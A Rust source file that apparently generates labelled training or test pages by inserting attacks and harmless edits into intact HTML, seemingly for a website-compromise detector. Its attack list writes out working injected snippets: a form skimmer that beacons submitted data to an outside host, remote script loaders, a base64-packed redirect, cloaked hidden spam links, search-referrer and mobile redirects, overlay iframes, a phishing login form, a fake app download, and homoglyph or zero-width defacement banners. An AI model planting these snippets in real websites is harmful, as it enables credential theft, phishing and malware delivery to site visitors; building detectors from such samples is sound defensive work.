//! Attacks and honest edits, put into intact pages. What is put there is written in `payloads/*.json`.

use std::sync::LazyLock;

use fastrand::Rng;
use regex::bytes::Regex;
use serde::Deserialize;

/// What one author's attackers and webmasters write. `hides` and `packed` hold one `%s` and `%%` for a percent sign.
#[derive(Deserialize)]
pub struct Payloads {
    domains: Vec<String>,
    script_hosts: Vec<String>,
    slugs: Vec<String>,
    anchors: Vec<String>,
    sentences: Vec<String>,
    boasts: Vec<String>,
    hides: Vec<String>,
    packed: Vec<String>,
    form_button: String,
    slogans: Vec<String>,
    news: Vec<(String, String)>,
    embeds: Vec<String>,
    greetings: Vec<String>,
    partners: Vec<String>,
}

pub fn payloads() -> Vec<Payloads> {
    [
        include_str!("payloads/a.json"),
        include_str!("payloads/b.json"),
    ]
    .into_iter()
    .map(|it| serde_json::from_str(it).unwrap_or_else(|error| panic!("payloads: {error}")))
    .collect()
}

type Change = fn(&[u8], &Payloads, &mut Rng) -> Option<Vec<u8>>;

pub const ATTACKS: &[(&str, Change)] = &[
    ("links-hidden", |html, it, rng| {
        let count = rng.usize(8..=40);
        let block = pick(rng, &it.hides);
        Some(before_end(html, &fill(block, &links(it, rng, count))))
    }),
    ("links-hidden-few", |html, it, rng| {
        let count = rng.usize(3..=8);
        let block = pick(rng, &it.hides);
        let block = fill(block, &links(it, rng, count));
        Some(somewhere(html, &block, rng))
    }),
    ("links-visible", |html, it, rng| {
        let count = rng.usize(6..=20);
        let block = format!("<div>{}</div>", links(it, rng, count));
        Some(somewhere(html, &block, rng))
    }),
    ("links-swapped", |html, it, rng| swapped(html, it, rng, 0.3)),
    ("links-swapped-few", |html, it, rng| {
        swapped(html, it, rng, 0.08)
    }),
    ("article-spam", |html, it, rng| {
        let text: Vec<&str> = (0..6).map(|_| pick(rng, &it.sentences)).collect();
        let piece = format!(
            "<div><h2>{}</h2><p>{}</p></div>",
            pick(rng, &it.anchors),
            text.join(". ")
        );
        Some(somewhere(html, &piece, rng))
    }),
    ("title-spam", |html, it, rng| {
        let text = format!("{} - {}", pick(rng, &it.anchors), pick(rng, &it.sentences));
        Some(title(html, &text))
    }),
    ("meta-spam", |html, it, rng| {
        let words: Vec<&str> = (0..6).map(|_| pick(rng, &it.anchors)).collect();
        let piece = format!(
            "<meta name=description content=\"{}\"><meta name=keywords content=\"{}\"><meta property=og:title content=\"{}\">",
            pick(rng, &it.sentences),
            words.join(", "),
            pick(rng, &it.anchors)
        );
        Some(in_head(html, &piece))
    }),
    ("data-spam", |html, it, rng| {
        let piece = format!(
            "<script type=\"application/ld+json\">{}</script>",
            serde_json::json!({"@type": "Product", "name": pick(rng, &it.anchors), "description": [pick(rng, &it.sentences), pick(rng, &it.sentences)]})
        );
        Some(in_head(html, &piece))
    }),
    ("alt-spam", |html, it, rng| {
        let images: String = (0..5)
            .map(|at| {
                format!(
                    "<img src=\"/upload/x{at}.jpg\" alt=\"{}\">",
                    pick(rng, &it.sentences).replace('"', "")
                )
            })
            .collect();
        Some(somewhere(html, &images, rng))
    }),
    ("script-src", |html, it, rng| {
        let piece = format!(
            "<script src=\"https://{}/{}.js\"></script>",
            pick(rng, &it.script_hosts),
            pick(rng, &it.slugs)
        );
        Some(before_end(html, &piece))
    }),
    ("script-packed", |html, it, rng| {
        let load = base64(&format!("location=\"https://{}\"", pick(rng, &it.domains)));
        let packed = fill(pick(rng, &it.packed), &load);
        Some(before_end(html, &format!("<script>{packed}</script>")))
    }),
    ("script-loader", |html, it, rng| {
        let host = pick(rng, &it.script_hosts);
        let piece = format!(
            "<script>var s=document.createElement('script');s.async=1;s.src='https://{host}/{}.js';document.head.appendChild(s)</script>",
            pick(rng, &it.slugs)
        );
        Some(in_head(html, &piece))
    }),
    ("skimmer", |html, it, rng| {
        let host = pick(rng, &it.script_hosts);
        let piece = format!(
            "<script>document.addEventListener('submit',function(e){{navigator.sendBeacon('https://{host}/c',new FormData(e.target))}},true)</script>"
        );
        Some(before_end(html, &piece))
    }),
    ("event-handler", |html, it, rng| {
        let piece = format!(
            "<img src=x width=1 height=1 onerror=\"top.location.href='https://{}/'\">",
            pick(rng, &it.domains)
        );
        Some(somewhere(html, &piece, rng))
    }),
    ("iframe", |html, it, rng| {
        let piece = format!(
            "<iframe src=\"https://{}/\" style=\"position:fixed;inset:0;width:100%;height:100%;z-index:99999\"></iframe>",
            pick(rng, &it.domains)
        );
        Some(top_of_body(html, &piece))
    }),
    ("iframe-tiny", |html, it, rng| {
        let piece = format!(
            "<iframe src=\"https://{}/\" width=1 height=1 frameborder=0></iframe>",
            pick(rng, &it.domains)
        );
        Some(somewhere(html, &piece, rng))
    }),
    ("meta-refresh", |html, it, rng| {
        let piece = format!(
            "<meta http-equiv=\"refresh\" content=\"0;url=https://{}/\">",
            pick(rng, &it.domains)
        );
        Some(in_head(html, &piece))
    }),
    ("js-redirect", |html, it, rng| {
        let piece = format!(
            "<script>if(/google|bing/.test(document.referrer))location.replace('https://{}/')</script>",
            pick(rng, &it.domains)
        );
        Some(in_head(html, &piece))
    }),
    ("js-redirect-mobile", |html, it, rng| {
        let piece = format!(
            "<script>if(/Android|iPhone/i.test(navigator.userAgent)&&!localStorage.seen){{localStorage.seen=1;window.location.href=\"//{}/{}\"}}</script>",
            pick(rng, &it.domains),
            pick(rng, &it.slugs)
        );
        Some(before_end(html, &piece))
    }),
    ("canonical", |html, it, rng| {
        let piece = format!(
            "<link rel=\"canonical\" href=\"https://{}/{}\">",
            pick(rng, &it.domains),
            pick(rng, &it.slugs)
        );
        Some(in_head(html, &piece))
    }),
    ("phishing-form", |html, it, rng| {
        let piece = format!(
            "<form action=\"https://{}/login\" method=post><input name=cccd><input type=password name=p><button>{}</button></form>",
            pick(rng, &it.domains),
            it.form_button
        );
        Some(somewhere(html, &piece, rng))
    }),
    ("download", |html, it, rng| {
        let piece = format!(
            "<a href=\"https://{}/VNeID-update.apk\">Tải ứng dụng</a>",
            pick(rng, &it.domains)
        );
        Some(somewhere(html, &piece, rng))
    }),
    ("title-only", |html, it, rng| {
        Some(title(html, pick(rng, &it.boasts)))
    }),
    ("boast-banner", |html, it, rng| {
        Some(top_of_body(
            html,
            &format!("<h1>{}</h1>", pick(rng, &it.boasts)),
        ))
    }),
    ("boast-in-item", |html, it, rng| {
        let piece = format!("<a href='#'>{}</a>", pick(rng, &it.boasts));
        Some(somewhere(html, &piece, rng))
    }),
    ("boast-homoglyph", |html, it, rng| {
        let boast = homoglyphs(pick(rng, &it.boasts));
        Some(title(
            &top_of_body(html, &format!("<h1>{boast}</h1>")),
            &boast,
        ))
    }),
    ("boast-zero-width", |html, it, rng| {
        let boast: String = pick(rng, &it.boasts)
            .chars()
            .flat_map(|c| [c, '\u{200b}'])
            .collect();
        Some(top_of_body(html, &format!("<h2>{boast}</h2>")))
    }),
    ("boast-written", |html, it, rng| {
        let text = pick(rng, &it.boasts).replace(['\'', '\\'], "");
        let hex: String = format!("<h1>{text}</h1>")
            .bytes()
            .map(|it| format!("%{it:02x}"))
            .collect();
        Some(before_end(
            html,
            &format!("<script>document.write(decodeURIComponent('{hex}'))</script>"),
        ))
    }),
    ("slogan", |html, it, rng| {
        let piece = format!(
            "<div style='text-align:center;font-size:40px'>{}</div>",
            pick(rng, &it.slogans)
        );
        Some(top_of_body(html, &piece))
    }),
    ("image-only", |html, _, _| {
        static BODY: LazyLock<Option<Regex>> =
            LazyLock::new(|| Regex::new(r"(?is)<body.*</body>").ok());
        let body = BODY.as_ref()?.find(html)?;
        let mut out = html[..body.start()].to_vec();
        out.extend(b"<body bgcolor=\"black\"><center><img src=\"https://i.example-images.net/x9.jpg\"></center></body>");
        out.extend(&html[body.end()..]);
        Some(out)
    }),
];

pub const EDITS: &[(&str, Change)] = &[
    ("news-item", |html, it, rng| {
        let (head, text) = rng.choice(&it.news)?;
        let piece = format!(
            "<div class=\"item\"><a href=\"/tin-tuc/{}.html\">{head}</a><p>{text}</p></div>",
            rng.u32(1000..9999)
        );
        Some(somewhere(html, &piece, rng))
    }),
    ("news-many", |html, it, rng| {
        let items: String = it
            .news
            .iter()
            .map(|(head, text)| {
                format!(
                    "<li><a href=\"/bai-viet/{}\">{head}</a> {text}</li>",
                    rng.u32(1000..9999)
                )
            })
            .collect();
        Some(top_of_body(html, &format!("<ul>{items}</ul>")))
    }),
    ("known-embed", |html, it, rng| {
        Some(before_end(html, pick(rng, &it.embeds)))
    }),
    ("holiday-banner", |html, it, rng| {
        let piece = format!(
            "<div style=\"background:#c00;color:gold;text-align:center\"><img src=\"/images/banner-{}.png\" alt=\"\"><h2>{}</h2></div>",
            rng.u32(1..9),
            pick(rng, &it.greetings)
        );
        Some(top_of_body(html, &piece))
    }),
    ("title-news", |html, it, rng| {
        Some(title(html, &rng.choice(&it.news)?.0))
    }),
    ("partner-links", |html, it, _| {
        let links: String = it
            .partners
            .iter()
            .map(|host| format!("<a href=\"https://{host}/\">{host}</a> "))
            .collect();
        Some(before_end(
            html,
            &format!("<div><h4>Liên kết website</h4>{links}</div>"),
        ))
    }),
];

/// Hidden links and a sold title, for a search engine alone.
pub fn cloaked(html: &[u8], it: &Payloads, rng: &mut Rng) -> Option<Vec<u8>> {
    let html = title(html, pick(rng, &it.anchors));
    let block = pick(rng, &it.hides);
    let count = rng.usize(8..=40);
    Some(before_end(&html, &fill(block, &links(it, rng, count))))
}

fn pick<'a>(rng: &mut Rng, from: &'a [String]) -> &'a str {
    rng.choice(from).map_or("", String::as_str)
}

fn fill(template: &str, with: &str) -> String {
    template.replace("%s", with).replace("%%", "%")
}

fn links(it: &Payloads, rng: &mut Rng, count: usize) -> String {
    (0..count)
        .map(|_| {
            let (domain, slug, text) = (
                pick(rng, &it.domains),
                pick(rng, &it.slugs),
                pick(rng, &it.anchors),
            );
            format!("<a href=\"https://{domain}/{slug}\">{text}</a> ")
        })
        .collect()
}

fn insert(html: &[u8], at: usize, piece: &str) -> Vec<u8> {
    [&html[..at], piece.as_bytes(), &html[at..]].concat()
}

pub fn before_end(html: &[u8], piece: &str) -> Vec<u8> {
    static END: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new("(?i)</body>").ok());
    let at = END
        .as_ref()
        .and_then(|it| it.find_iter(html).last())
        .map_or(html.len(), |it| it.start());
    insert(html, at, piece)
}

pub fn somewhere(html: &[u8], piece: &str, rng: &mut Rng) -> Vec<u8> {
    static SPOT: LazyLock<Option<Regex>> =
        LazyLock::new(|| Regex::new("</(?:div|p|li|section|td)>").ok());
    let spots: Vec<usize> = SPOT
        .iter()
        .flat_map(|it| it.find_iter(html))
        .map(|it| it.end())
        .collect();
    let at = rng.choice(&spots).copied().unwrap_or(html.len());
    insert(html, at, piece)
}

fn after(html: &[u8], tag: &Option<Regex>, piece: &str) -> Vec<u8> {
    let at = tag
        .as_ref()
        .and_then(|it| it.find(html))
        .map_or(0, |it| it.end());
    insert(html, at, piece)
}

pub fn in_head(html: &[u8], piece: &str) -> Vec<u8> {
    static HEAD: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new("(?i)<head[^>]*>").ok());
    after(html, &HEAD, piece)
}

pub fn top_of_body(html: &[u8], piece: &str) -> Vec<u8> {
    static BODY: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new("(?i)<body[^>]*>").ok());
    after(html, &BODY, piece)
}

pub fn title(html: &[u8], text: &str) -> Vec<u8> {
    static TITLE: LazyLock<Option<Regex>> =
        LazyLock::new(|| Regex::new("(?is)<title[^>]*>(.*?)</title>").ok());
    match TITLE
        .as_ref()
        .and_then(|it| it.captures(html))
        .and_then(|it| it.get(1))
    {
        Some(inner) => [
            &html[..inner.start()],
            text.as_bytes(),
            &html[inner.end()..],
        ]
        .concat(),
        None => in_head(html, &format!("<title>{text}</title>")),
    }
}

fn swapped(html: &[u8], it: &Payloads, rng: &mut Rng, share: f64) -> Option<Vec<u8>> {
    static LINK: LazyLock<Option<Regex>> =
        LazyLock::new(|| Regex::new("<a [^>]*?href=\"([^\"#][^\"]*)\"").ok());
    let mut spots: Vec<(usize, usize)> = LINK
        .as_ref()?
        .captures_iter(html)
        .filter_map(|it| it.get(1).map(|it| (it.start(), it.end())))
        .collect();
    let count = ((spots.len() as f64 * share) as usize).max(1);
    rng.shuffle(&mut spots);
    spots.truncate(count);
    spots.sort_unstable();
    let (mut out, mut from) = (Vec::new(), 0);
    for (start, end) in spots {
        out.extend(&html[from..start]);
        out.extend(
            format!(
                "https://{}/{}",
                pick(rng, &it.domains),
                pick(rng, &it.slugs)
            )
            .bytes(),
        );
        from = end;
    }
    out.extend(&html[from..]);
    Some(out)
}

/// Latin letters as the Cyrillic ones that look like them.
pub fn homoglyphs(text: &str) -> String {
    const ALIKE: &[(char, char)] = &[
        ('a', 'а'),
        ('e', 'е'),
        ('o', 'о'),
        ('p', 'р'),
        ('c', 'с'),
        ('x', 'х'),
        ('y', 'у'),
        ('A', 'А'),
        ('B', 'В'),
        ('E', 'Е'),
        ('K', 'К'),
        ('M', 'М'),
        ('H', 'Н'),
        ('O', 'О'),
        ('P', 'Р'),
        ('C', 'С'),
        ('T', 'Т'),
        ('X', 'Х'),
    ];
    text.chars()
        .map(|c| ALIKE.iter().find(|it| it.0 == c).map_or(c, |it| it.1))
        .collect()
}

fn base64(text: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for part in text.as_bytes().chunks(3) {
        let bits = part
            .iter()
            .fold(0u32, |bits, it| bits << 8 | u32::from(*it))
            << (8 * (3 - part.len()));
        for at in 0..4 {
            if at <= part.len() {
                out.push(char::from(DIGITS[(bits >> (18 - 6 * at) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}
